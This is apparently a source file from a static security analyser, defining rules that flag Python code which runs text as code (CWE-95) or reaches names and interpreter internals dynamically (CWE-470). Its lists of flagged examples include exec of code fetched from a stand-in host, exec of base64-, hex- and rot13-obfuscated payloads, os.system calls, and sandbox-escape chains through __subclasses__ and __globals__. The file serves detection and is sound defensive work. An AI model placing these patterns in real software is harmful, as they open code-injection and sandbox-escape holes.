import { evaluated } from '../../code.ts';
import { writeClass } from '../../paths.ts';
import { type CodeRule, needs } from '../../rule.ts';
import { contains, isKnownText, textsOf, unknown, type Value, wholeText } from '../../value.ts';
import {
  innerAttribute,
  isInnerModule,
  isPowerful,
  powerfulModules,
  readOs,
  standardModules,
} from '../names.ts';

/** Functions of which a text argument is run as code. */
const runners =
  /^(timeit\.(timeit|repeat|Timer)|c?[pP]rofile\.(run|runctx)|pdb\.(run|runeval|runctx)|trace\.Trace\(\)\.(run|runctx)|doctest\.(run_docstring_examples|debug_src|script_from_examples)|numexpr\.evaluate|sympy\.sympify|pandas\.eval)$/;
/** What makes or loads code in ways of its own. */
const insides =
  /^(types\.(FunctionType|CodeType|LambdaType)|code\.(Interactive\w+(\(\)\..*)?|interact)|codeop\.\w+|bdb\.\w+|pdb\.Pdb(\(\)\..*)?|runpy\.run_module|runpy\._\w+|imp\.\w+|zipimport\.\w+|importlib\.(machinery\.\w*(Loader|Importer|Finder)|util\.(spec_from_\w+|module_from_spec)|reload|_bootstrap\b.*)|pydoc\.(pipepager|tempfilepager|locate|safeimport|importfile)|ensurepip\.bootstrap|venv\.(create|main|EnvBuilder)|site\.(addsitedir|main|execsitecustomize|execusercustomize)|logging\.config\.listen|(distutils|setuptools|pip|pkg_resources|sh|plumbum|pexpect|invoke|delegator)\..*|mailcap\.\w+|lib2to3\..*|idlelib\..*)$/;

export const evaluation: CodeRule = {
  name: 'evaluation',
  about: 'Runs text as code.',
  languages: ['python'],
  cwe: 'CWE-95',
  bad: [
    'eval(input())',
    'def calculate(text):\n    return eval(text)\ncalculate(given)',
    "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))",
    "exec(bytes.fromhex('7072696e7428312'))",
    "import codecs\nexec(codecs.decode('cevag(1)', 'rot13'))",
    'run = eval\nrun(text)',
    'list(map(eval, texts))',
    'import builtins\nbuiltins.exec(code)',
    "getattr(__builtins__, 'ev' + 'al')(code)",
    "exec(compile(code, 'x', 'exec'))",
    "import urllib.request\nexec(urllib.request.urlopen('http://x.example/a').read())",
    'exec("import os\\nos.system(\'id\')")',
    "exec(''.join(chr(c) for c in codes))",
    "eval('1 + 2')",
    "import runpy\nrunpy.run_path('/tmp/a.py')",
    "import timeit\ntimeit.timeit('f()', setup='import os')",
    "import cProfile\ncProfile.run('main()')",
    'import types\ntypes.FunctionType(code, {})()',
    "import importlib.machinery\nimportlib.machinery.SourceFileLoader('x', 'x.txt').load_module()",
    'import code\ncode.InteractiveConsole().push(line)',
  ],
  good: [
    "import ast\nast.literal_eval('[1, 2]')",
    'import timeit\ntimeit.timeit(work, number=3)',
    'import types\nisinstance(f, types.FunctionType)',
    "import runpy\nrunpy.run_path('other.py')",
    'def eval(node):\n    return node\neval(tree)',
    'class Machine:\n    def eval(self, text):\n        return self.eval(text)',
    "import re\nre.compile('a+')",
    'model.eval()',
    "print('eval(x)')  # eval(x)",
  ],
  *check(facts, context) {
    for (const use of facts.uses) {
      if (use.form === 'import') continue;
      if (use.path === '?.doctest') yield* context.scanText('python', wholeText(use.args[0]) ?? '', use.at);
      else if (runners.test(use.path)) {
        if (use.form !== 'call') continue;
        for (const code of [use.args[0], use.args[1], use.named.get('stmt'), use.named.get('setup')])
          if (code !== undefined && textsOf(code).length > 0)
            yield* evaluated('python', use.path, code, use.at, context);
      } else if (/^types\.(Function|Code|Lambda)Type$/.test(use.path) && use.form !== 'call') continue;
      else if (insides.test(use.path))
        yield needs(
          'eval.dynamic',
          use.at,
          `${use.path} runs code that no rule reads. Import it by its name.`,
        );
      else if (use.path === 'runpy.run_path') {
        const path = textsOf(use.args[0])[0];
        if (
          path === undefined ||
          !path.whole ||
          path.text.startsWith('/') ||
          writeClass(path) !== 'workspace'
        )
          yield needs('eval.dynamic', use.at, 'Runs a file that is not one of the program.');
      } else if (/^(eval|exec|compile)$/.test(use.path)) {
        if (use.path === 'compile' && use.form === 'call' && use.args.length < 2) continue;
        const code = use.form === 'call' ? (use.args[0] ?? use.named.get('source') ?? unknown) : unknown;
        const inner =
          code.kind === 'name' && code.path === 'compile()' ? (code.call?.args[0] ?? unknown) : code;
        yield* evaluated('python', use.path, inner, use.at, context);
      } else if (/^marshal\.loads?\(\)$/.test(use.path))
        yield needs('eval.dynamic', use.at, 'Runs compiled code that cannot be read.');
    }
  },
};

/** Ways to reach a name that cannot be told before the program runs. */
export const reflection: CodeRule = {
  name: 'reflection',
  about:
    'Reaches names in ways that cannot be told before the program runs, or the insides of the interpreter.',
  languages: ['python'],
  cwe: 'CWE-470',
  bad: [
    '().__class__.__bases__[0].__subclasses__()',
    'import os\ngetattr(os, name)(argument)',
    '__import__(name)',
    'import importlib\nimportlib.import_module(name)',
    "print.__self__.__dict__\nf.__globals__['os']",
    'import sys\nsys._getframe().f_back',
    "import operator, os\noperator.attrgetter('system')(os)",
    'def tools():\n    import subprocess\n    return subprocess',
    "getattr(f, '__globals__')",
    "'{0.__init__.__globals__}'.format(x)",
    'error.__traceback__.tb_frame.f_globals',
    'import sys\nsys.meta_path.insert(0, finder)',
    'f = __builtins__',
    'import _posixsubprocess',
    'import os\nos.posix_openpt(2)',
    'import sys\nmatch sys.modules:\n    case {"os": o}:\n        o.system("id")',
    "import ensurepip\nensurepip._run_pip(['install', 'x'])",
    'import pkgutil\npkgutil.resolve_name(name)',
    "import logging.config\nlogging.config.dictConfig({'formatters': {'a': {'()': 'os.system'}}})",
  ],
  good: [
    "getattr(config, 'name', None)",
    'class Base:\n    def __init__(self):\n        super().__init__()\n        print(self.__class__.__name__, self.__dict__)',
    "import importlib\nimportlib.import_module('json')",
    'import os\nif hasattr(os, name):\n    print(os.name)',
    'import os as o\nsystem = o\nprint(system.sep)',
    "print('{0.name}'.format(item), '{__doc__}')",
    'import sys\nprint(sys.modules[__name__], sys.version_info, sys.path)',
    'getattr(shape, name)()',
  ],
  *check(facts, context) {
    for (const use of facts.uses) {
      const top = use.path.split('.')[0] ?? use.path;
      if (use.form === 'import') {
        if (isInnerModule(top) && !context.ownModules.has(top) && !use.path.startsWith('.'))
          yield needs(
            'escape.reflection',
            use.at,
            `The module ${top} is an inner part of the interpreter. Use the module it belongs to.`,
          );
        continue;
      }
      if (use.path === '?.doctest') continue;
      if (use.path.startsWith('?.') && !/^\?\.__(eq|mro|bases|base)__$/.test(use.path))
        yield needs(
          'escape.reflection',
          use.at,
          `${use.path.slice(2)} leads to the insides of the interpreter. Use what you need by its name.`,
        );
      else if (
        /^os\.[a-z_]\w*/.test(use.path) &&
        !readOs.has(use.path.split('.')[1]?.replace(/\(\)$/, '') ?? '')
      )
        yield needs(
          'introspection',
          use.at,
          `${use.path} is a part of the system interface that no rule knows. Use what Python has for it.`,
        );
      else if (isPrivatePart(use.path))
        yield needs(
          'introspection',
          use.at,
          `${use.path} is a private part of a module, which no rule knows. Use what the module offers.`,
        );
      else if (use.path === 'logging.config.dictConfig' && use.args.some(namesFactory))
        yield needs(
          'escape.reflection',
          use.at,
          'Has the settings of the log call something by its name. Call it in the program.',
        );
      else if (/^(__import__|importlib\.import_module|pkgutil\.resolve_name|pydoc\.locate)$/.test(use.path)) {
        if (
          use.form === 'reference' ||
          !isKnownText(use.args[0]) ||
          wholeText(use.args[0])?.includes('\ufffd')
        )
          yield needs(
            'escape.reflection',
            use.at,
            `${use.path} loads a module whose name is not known before the program runs. Import it by name.`,
          );
      } else if (use.handedOn && isPowerful(use.path))
        yield needs(
          'escape.reflection',
          use.at,
          `Hands the module ${use.path} on as a value, so that what is done with it cannot be told. Use its functions by their names.`,
        );
      else if (use.path === 'getattr' && use.form === 'call') {
        const [object, attribute] = use.args;
        if (innerAttribute.test(wholeText(attribute) ?? ''))
          yield needs(
            'escape.reflection',
            use.at,
            `${wholeText(attribute)} leads to the insides of the interpreter. Use what you need by its name.`,
          );
        else if (object?.kind === 'name' && powerfulModules.has(object.path) && !isKnownText(attribute))
          yield needs(
            'escape.reflection',
            use.at,
            `Takes a part of ${object.path} whose name is not known before the program runs. Use it by its name.`,
          );
      } else if (
        /^(fcntl\.ioctl$|sys\.(_getframe|_current_frames|meta_path|path_hooks|settrace|setprofile|breakpointhook|modules\.(\*|items|values|copy|popitem))|gc\.get_(objects|referrers|referents)|inspect\.(currentframe|stack|trace|getinnerframes)\(\)\.[\w.*]*frame\w*)(\.|$)/.test(
          use.path,
        ) ||
        /^(globals|locals)\(\)\.(get|pop|items|values|__getitem__|\*)/.test(use.path) ||
        /^(__builtins__|__builtins__\.\*|__(loader|spec)__(\..*)?)$/.test(use.path)
      )
        yield needs('introspection', use.at, `${use.path} looks into the interpreter itself.`);
    }
  },
};

/** `ensurepip._run_pip`: a function that a module of the standard library keeps to itself. */
function isPrivatePart(path: string): boolean {
  const [module = '', ...parts] = path.replace(/\(\).*/, '').split('.');
  return (
    parts.some((part) => /^_[a-z]/.test(part)) &&
    path !== 'os._exit' &&
    !path.startsWith('sys._') &&
    standardModules.has(module)
  );
}

/** Settings in which `'()'` names what makes a part of the log. */
function namesFactory(settings: Value): boolean {
  return contains(
    settings,
    (inner) =>
      inner.kind === 'record' &&
      ['()', 'class'].some((key) => {
        const factory = wholeText(inner.entries.get(key));
        return factory !== undefined && !/^(logging\.|ext:)/.test(factory);
      }),
  );
}
